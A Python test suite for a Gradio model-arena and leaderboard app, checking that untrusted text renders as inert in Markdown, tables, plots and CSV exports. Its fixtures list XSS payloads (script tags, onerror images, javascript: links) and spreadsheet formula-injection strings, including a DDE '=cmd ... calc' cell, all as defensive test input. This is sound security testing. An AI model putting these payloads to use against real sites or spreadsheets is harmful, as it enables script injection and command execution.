"""Untrusted text is shown as inert text by every builder of what Gradio shows (issue 10, inert rendering).

The rule the tests assert, for Markdown (gr.Markdown is rendered in the browser by marked, GFM):
1. `md(s)` alone: every ASCII punctuation character of `s` is backslash-escaped, no line starts with a space
   or a tab, and rendered (markdown-it, GFM-like, raw HTML on, linkify on) it is one paragraph of text and
   line breaks whose text is `s` itself (control and bidi-override characters shown as U+FFFD).
2. Every Markdown builder: the Markdown *syntax* of its output (the unescaped ASCII punctuation and the line
   structure) is the same whether the untrusted fields hold hostile strings or a plain "x": untrusted text
   adds no syntax, so no renderer (marked's autolinks, Gradio's $$ and mermaid passes included) can find a
   link, image, HTML, code or formatting of theirs. Rendered by markdown-it, the output has no tag beyond
   the template's own (no a, img, script, code...), no attribute at all, and shows the hostile text.
3. Tables: every gr.Dataframe of the app has datatype "str" (Gradio 6 sets such a cell's text, never its
   HTML), and the frames hold the untrusted strings unchanged (no double escaping).
4. Plots: every label is HTML-escaped (plotly renders a pseudo-HTML subset, <a href> included): no "<" or
   ">" in any string of the figure, and unescaping gives the name back.
5. CSV: no cell of an export starts with a formula character; export -> import gives the votes back exactly.
"""
from __future__ import annotations

import csv
import html
import io
import json
import string
from html.parser import HTMLParser
from types import SimpleNamespace

import pandas as pd
import pytest
from hypothesis import HealthCheck, given, settings, strategies as st

from eval_backend.inert import clean, csv_cell, csv_uncell, md, md_inline, plot_text

pytest.importorskip("linkify_it")
from markdown_it import MarkdownIt  # noqa: E402

RENDER = MarkdownIt("gfm-like", {"html": True, "linkify": True})
PUNCT = frozenset(string.punctuation)

FRAGMENTS = [
    "![](http://127.0.0.1:9/pixel)", "![x][r]\n\n[r]: http://127.0.0.1:9/ref", "[click](javascript:alert(1))",
    "<http://127.0.0.1:9/auto>", "http://127.0.0.1:9/bare", "www.example.com", "mail@example.com",
    "<img src=x onerror=alert(1)>", '<a href="http://e.example/">a</a>', "<script>alert(1)</script>",
    "<details open>", "&lt;img&gt;", "&#60;b&#62;", "&amp;", "`code`", "```\nfence\n```", "```mermaid\ngraph\n```",
    "$$x^2$$", "%%%LATEX_BLOCK_0%%%", "**bold**", "_em_", "~~s~~", "# heading", "> quote", "- item", "1. item",
    "| a | b |\n|---|---|", "    indented", "\tTab", "\n\n", "\r\n", "\r", "line\\", "\\", "  \n", "===", "---",
    "\u200b", "\u200d", "\u202e", "\u2066", "\u2028", "\x00", "\x1b[31m", "\ufeff", "=HYPERLINK(\"http://e\")",
    "@SUM(1)", "+1", "-1", "'", '"', ",", "é", "😀", "x" * 300,
]
hostile = (st.lists(st.one_of(st.sampled_from(FRAGMENTS), st.text(max_size=20)), min_size=1, max_size=8)
           .map("".join).filter(lambda s: s.strip()))
ALLOWED_TAGS = {"p", "br", "strong", "em", "h3", "ul", "li", "blockquote", "table", "thead", "tbody", "tr", "th",
                "td", "details", "summary"}


class _Html(HTMLParser):
    def __init__(self):
        super().__init__(convert_charrefs=True)
        self.tags: list[tuple[str, list]] = []
        self.text: list[str] = []

    def handle_starttag(self, tag, attrs):
        self.tags.append((tag, attrs))

    def handle_startendtag(self, tag, attrs):
        self.tags.append((tag, attrs))

    def handle_data(self, data):
        self.text.append(data)


def rendered(markdown: str) -> _Html:
    p = _Html()
    p.feed(RENDER.render(markdown))
    p.close()
    return p


def squash(s: str) -> str:
    return " ".join(s.split())


def skeleton(markdown: str) -> list[str]:
    """The Markdown syntax of a text: unescaped ASCII punctuation, raw newlines and line indentation; a hard
    break (backslash + newline) and an escaped character are text, not syntax."""
    out, i = [], 0
    at_line_start = True
    while i < len(markdown):
        c = markdown[i]
        if at_line_start and c in " \t":
            out.append("indent")
        at_line_start = False
        if c == "\\" and i + 1 < len(markdown) and (markdown[i + 1] in PUNCT or markdown[i + 1] == "\n"):
            at_line_start = markdown[i + 1] == "\n"     # the line after a hard break must not be indented either
            i += 2
            continue
        if c == "\n":
            out.append("\n")
            at_line_start = True
        elif c in PUNCT:
            out.append(c)
        i += 1
    return out


def assert_inert(markdown_hostile: str, markdown_plain: str, shown: list[str]) -> None:
    assert skeleton(markdown_hostile) == skeleton(markdown_plain)
    doc = rendered(markdown_hostile)
    for tag, attrs in doc.tags:
        assert tag in ALLOWED_TAGS, (tag, attrs)
        assert not attrs, (tag, attrs)
    text = squash("".join(doc.text))
    for s in shown:
        start = squash(clean(s).strip()[:150])      # within every length limit: shown as is
        assert start in text, (start, text[:300])


# ---------------------------------------------------------------- 1. md itself
@settings(max_examples=300, deadline=None)
@given(hostile)
def test_md_is_plain_text_whatever_the_input(s):
    out = md(s)
    i = 0
    while i < len(out):                                   # every punctuation character is escaped
        if out[i] == "\\":
            assert i + 1 < len(out) and (out[i + 1] in PUNCT or out[i + 1] == "\n"), repr(out[i:i + 5])
            i += 2
            continue
        assert out[i] not in PUNCT, repr(out)
        i += 1
    assert not any(line[:1] in (" ", "\t") for line in out.split("\n"))
    doc = rendered(out)
    assert [t for t, _ in doc.tags if t != "br"] == ["p"] and all(not a for _, a in doc.tags)
    want = [squash(line) for line in clean(s).strip().split("\n")]
    got = [squash(line) for line in "".join(doc.text).strip("\n").split("\n")]
    assert got == want


@settings(max_examples=100, deadline=None)
@given(hostile)
def test_md_inline_is_one_line(s):
    out = md_inline(s, limit=None)
    assert "\n" not in out
    assert squash("".join(rendered(out).text)) == squash(clean(s))


def test_md_cuts_long_text_and_marks_the_cut():
    out = md("a" * 50, limit=10)
    assert out == "a" * 10 + "…"


# ---------------------------------------------------------------- 2. Markdown builders
def _reveal(model_a, model_b, ta, tb):
    from arena.ui.arena_tab import reveal_markdown

    def side(m, t):
        return SimpleNamespace(model=m, transcript=t, votes=3, rating=SimpleNamespace(mu=25.0, sigma=8.0))
    return reveal_markdown(SimpleNamespace(a=side(model_a, ta), b=side(model_b, tb), winner=model_a))


@settings(max_examples=50, deadline=None, suppress_health_check=[HealthCheck.too_slow])
@given(hostile, hostile, hostile)
def test_arena_reveal_context_and_messages(name, transcript, context):
    from arena.ui.arena_tab import context_markdown, message_markdown

    assert_inert(_reveal(name, name + "2", transcript, transcript), _reveal("x", "x2", "x", "x"),
                 [name, transcript])
    assert_inert(context_markdown(context), context_markdown("x"), [context])
    assert_inert(message_markdown(context), message_markdown("x"), [context])


def _benchmark(t: str):
    from eval_backend.benchmark.model import (MCQ, AudioRef, Benchmark, ContextCase, ContextGroup, Script,
                                              SelectionItem, ToneCase, ToneGroup, Variant)
    a = AudioRef("/nonexistent.wav")
    return Benchmark(
        name=t, version="1",
        scripts=[Script(id="s0", text=t, attribute=t, topic=t,
                        variants={"target": Variant("target", t, a, reference_reply=t)}, flags=[t])],
        mcqs=[MCQ(id="q0", level=t, type=t, audio=a, question=t, options=[t, t], answer="A", flags=[t])],
        context_groups=[ContextGroup(id="g0", utterance_text=t, audio=a,
                                     cases=[ContextCase(id=t, context=t, reference_reply=t)], flags=[t])],
        tone_groups=[ToneGroup(id="t0", text=t, context=t, cases=[ToneCase(id="c", tone=t, audio=a,
                                                                           reference_reply=t)], flags=[t])],
        selection=[SelectionItem(id="e0", group_id=t, kind=t, context=t, utterance_text=t, audio=a,
                                 options={"A": a, "B": a}, answer=t, option_texts={"A": t, "B": t}, flags=[t])])


@settings(max_examples=60, deadline=None, suppress_health_check=[HealthCheck.too_slow])
@given(hostile)
def test_browse_items_and_replies(t):
    from eval_backend.store import FAILURE_CLASSES, Reply
    from leaderboard import browse

    bh, bx = _benchmark(t), _benchmark("x")
    ids = {"scripts": "s0", "mcqs": "q0", "context_groups": "g0", "tone_groups": "t0", "selection": "e0"}
    for coll, item in ids.items():
        assert_inert(browse.item_view(bh, coll, item).markdown, browse.item_view(bx, coll, item).markdown, [t])

    def reply(v, status="ok"):
        return Reply(model=v, benchmark_hash="h", request_id="r", task="conversation", item_id="s0",
                     variant="target", status=status, text=v, transcript=v + "!",
                     error_class=sorted(FAILURE_CLASSES)[0] if status == "failed" else None, error_message=v,
                     latency_s=1.0)
    assert_inert(browse.reply_markdown(reply(t)), browse.reply_markdown(reply("x")), [t])
    assert_inert(browse.reply_markdown(reply(t, "failed")), browse.reply_markdown(reply("x", "failed")), [t])


def _doc(t):
    return {"manifest": {"model": t, "benchmark": {"name": t, "version": t, "hash": t}, "scorer_version": t,
                         "timestamp": t},
            "boards": {"LB1": {"value": 0.5, "source": t}, "LB2": {"value": None, "reason": t}}, "metrics": {}}


@settings(max_examples=80, deadline=None)
@given(hostile)
def test_model_page(t):
    from leaderboard.model_page import headline_markdown, sample_markdown

    assert_inert(headline_markdown(_doc(t)), headline_markdown(_doc("x")), [t])
    assert_inert(sample_markdown({"request_id": t, "text": t}), sample_markdown({"request_id": "x", "text": "x"}),
                 [t])


def _job(t):
    return SimpleNamespace(id=7, model=t, state="FAILED", reason=t, base_url=t, model_id=t, audio_output=True,
                           benchmark=t, has_api_key=False, results_path="/r/" + t, log_excerpt=t)


@settings(max_examples=80, deadline=None)
@given(hostile)
def test_submit_job_details_and_errors(t):
    from leaderboard.submit_tab import FIELDS, error_updates, job_markdown

    ev = [{"at": 1.0, "event": t, "actor": t, "detail": t}]
    ex = [{"at": 1.0, "event": "x", "actor": "x", "detail": "x"}]
    assert_inert(job_markdown(_job(t), ev), job_markdown(_job("x"), ex), [t])
    hostile_err = [u["value"] for u in error_updates({f: t for f in FIELDS})]
    plain_err = [u["value"] for u in error_updates({f: "x" for f in FIELDS})]
    for h, p in zip(hostile_err, plain_err):
        assert_inert(h, p, [t])


@settings(max_examples=50, deadline=None)
@given(hostile)
def test_bootstrap_status_line(t):
    from space_shell.bootstrap import BootstrapStatus

    def line(v):
        s = BootstrapStatus()
        s.stage, s.message, s.errors = v, v, [v, v]
        return s.line()
    assert_inert(line(t), line("x"), [t])


# ---------------------------------------------------------------- 3. tables
def test_every_table_of_the_app_renders_cells_as_text(tmp_path, monkeypatch):
    import gradio as gr

    monkeypatch.setenv("EMPATHY_ARENA_BOOTSTRAP", "0")
    from app import SpaceContext, build_blocks

    demo = build_blocks(SpaceContext(tmp_path))
    frames = [b for b in demo.blocks.values() if isinstance(b, gr.Dataframe)]
    assert len(frames) >= 6           # arena board, bench board, 3 model page breakdowns, jobs, health
    for f in frames:
        assert f.datatype == "str", (f.elem_id, f.datatype)


@settings(max_examples=40, deadline=None)
@given(hostile)
def test_frames_keep_untrusted_text_unchanged(t):
    from leaderboard import results_table as rt
    from leaderboard.arena_leaderboard_tab import board_rows
    from leaderboard.submit_tab import jobs_frame

    job = SimpleNamespace(id=1, model=t, state="FAILED", submitter=t, created_at=1.0, updated_at=2.0, reason=t)
    assert jobs_frame([job]).iloc[0][["model", "submitter", "reason or result"]].tolist() == [t, t, t]
    row = {"model": t, "mu": 25.0, "sigma": 8.0, "conservative": 1.0, "bt": 1000.0, "bt_low": 990.0,
           "bt_high": 1010.0, "bt_rank": 1, "votes": 3, "wins": 1, "losses": 1, "ties": 1, "provisional": True}
    assert board_rows([row], 300).iloc[0]["model"] == t
    df, _ = rt.build_table({t: _doc(t)}, {t: rt.ModelInfo("endpoint", True, True, t)})
    shown = rt.display_frame(df)
    assert shown.iloc[0]["model"] == t and shown.iloc[0]["organisation"] == t


# ---------------------------------------------------------------- 4. plots
LABEL_KEYS = ("x", "y", "text", "name", "theta")     # where a figure's data carries names (templates are ours)


def _strings(obj):
    if isinstance(obj, str):
        yield obj
    elif isinstance(obj, (list, tuple)):
        for v in obj:
            yield from _strings(v)


@settings(max_examples=30, deadline=None)
@given(st.lists(hostile, min_size=2, max_size=3, unique_by=plot_text))
def test_plot_labels_are_escaped(names):
    from leaderboard import plots
    from leaderboard.agreement import Stat
    from leaderboard.bench_tab import radar_figure, scatter_figure

    n = len(names)
    figs = [plots.interval_chart(names, [1.0 * i for i in range(n)], [0.0] * n, [9.0] * n),
            plots.win_rate_heatmap(names, [[0.5] * n for _ in range(n)]),
            plots.battle_count_heatmap(names, [[1] * n for _ in range(n)]),
            plots.rating_history_chart({m: ([1, 2], [25.0, 26.0], [8.0, 7.0]) for m in names}),
            radar_figure(pd.DataFrame([{"model": m, "type": "endpoint", "LB1": 0.5, "LB2": 3.0, "LB3": 2.0,
                                        "selection": 0.4} for m in names])),
            scatter_figure({m: (1000.0 + i, 0.5) for i, m in enumerate(names)}, "LB1", Stat(0.5, 3))]
    for fig in figs:
        data = json.loads(fig.to_json())
        labels = set()
        for trace in data["data"]:
            for s in _strings([trace.get(k) for k in LABEL_KEYS]):
                assert "<" not in s and ">" not in s, s
                labels.add(html.unescape(s))
        for m in names:
            assert any(clean(m).replace("\n", " ") in lab for lab in labels), m


# ---------------------------------------------------------------- 5. CSV
FORMULA = ("=", "+", "-", "@", "\t", "\r")


@settings(max_examples=300, deadline=None)
@given(st.one_of(hostile, st.text()))
def test_csv_cell_is_reversible_and_never_a_formula(v):
    c = csv_cell(v)
    assert csv_uncell(c) == v
    assert not c.startswith(FORMULA)
    assert csv_uncell(v) == v or v.startswith("'")       # only a leading quote is ever removed


# a vote's text: anything but NUL, which the vote files refuse (the databases cannot store it; tests/test_vote_files.py)
text_field = hostile.map(str.strip).filter(lambda s: s and "\x00" not in s)


@st.composite
def vote_rows(draw):
    from arena.tables.storage import VoteRow

    rows = []
    for i in range(draw(st.integers(1, 4))):
        a = draw(text_field.filter(lambda x: x not in ("tie", "both_bad")))
        b = draw(text_field.filter(lambda x: x != a and x not in ("tie", "both_bad")))
        slot = draw(st.sampled_from(["A", "B", "tie", "both_bad"]))
        winner = {"A": a, "B": b}.get(slot, slot)
        rows.append(VoteRow(id=i + 1, model_a=a, model_b=b, winner=winner, slot=slot,
                            said=draw(st.sampled_from([None, "A", "B", "tie"])), sounded=None,
                            reason=draw(st.one_of(st.none(), text_field)), first_heard=draw(st.sampled_from([None, "A"])),
                            attribute=draw(st.one_of(st.none(), text_field)), dimension=None,
                            benchmark_hash=draw(st.one_of(st.none(), text_field)),
                            request_id=draw(st.one_of(st.none(), text_field)),
                            created_at=draw(st.floats(0, 2e9)), source="live"))
    return rows


KEPT = ("model_a", "model_b", "winner", "slot", "said", "sounded", "reason", "first_heard", "attribute", "dimension",
        "benchmark_hash", "request_id", "created_at")


@settings(max_examples=60, deadline=None, suppress_health_check=[HealthCheck.too_slow])
@given(vote_rows())
def test_csv_export_round_trips_hostile_votes_exactly(votes):
    from arena.core.votes_io import count_votes, format_votes, parse

    text = format_votes(votes, "csv")
    cells = list(csv.reader(io.StringIO(text, newline="")))
    assert len(cells) == len(votes) + 1 and count_votes(text, "csv") == len(votes)
    for row in cells:
        assert not any(c.startswith(FORMULA) for c in row), row
    back = parse("votes.csv", text, default_time=0.0)
    assert [{k: r[k] for k in KEPT} for r in back] == [{k: getattr(v, k) for k in KEPT} for v in votes]
    assert format_votes(votes, "jsonl").count("\n") == len(votes)          # the JSONL export is one line a vote


def test_export_and_import_votes_through_the_command_line(tmp_path, capsys):
    """`python -m arena export --format csv` counts votes, not lines; `import-votes` gives them back exactly."""
    from arena.__main__ import main
    from arena.services.service import ArenaService
    from eval_backend.store import Store

    reasons = ['=HYPERLINK("http://e.example/?"&A1,"click")', "@SUM(A1:A9)", "+1", "-1", "'quoted",
               "two\nlines, a comma and \"quotes\"", "cr\rinside", "crlf\r\ninside", "plain"]
    src = tmp_path / "src.jsonl"
    src.write_text("".join(json.dumps({"model_a": "=m1", "model_b": "@m2", "winner": "=m1", "reason": r,
                                       "created_at": 1_700_000_000 + i}) + "\n" for i, r in enumerate(reasons)))
    a, b = tmp_path / "a", tmp_path / "b"
    assert main(["import-votes", str(src), "--data-dir", str(a)]) == 0
    out = tmp_path / "votes.csv"
    assert main(["export", "--format", "csv", "--out", str(out), "--data-dir", str(a)]) == 0
    assert f"wrote {len(reasons)} votes" in capsys.readouterr().out
    for row in csv.reader(io.StringIO(out.read_bytes().decode(), newline="")):
        assert not any(c.startswith(FORMULA) for c in row), row
    va = ArenaService(Store(a)).votes()
    assert main(["import-votes", str(out), "--data-dir", str(b)]) == 0
    assert f"imported {len(reasons)} votes" in capsys.readouterr().out
    vb = ArenaService(Store(b)).votes()[-len(reasons):]    # PostgreSQL runs: both dirs share the test's database
    assert [{k: getattr(v, k) for k in KEPT} for v in vb] == [{k: getattr(v, k) for k in KEPT} for v in va]
    assert [v.reason for v in vb] == reasons


def test_benchmark_board_csv_neutralises_formula_cells():
    from leaderboard.bench_tab import csv_frame

    view = pd.DataFrame([{"model": "=cmd|' /C calc'!A0", "organisation": "@org", "LB1": 0.5, "note": "ok"}])
    out = csv_frame(view).to_csv(index=False)
    row = list(csv.reader(io.StringIO(out)))[1]
    assert row == ["'=cmd|' /C calc'!A0", "'@org", "0.5", "ok"]
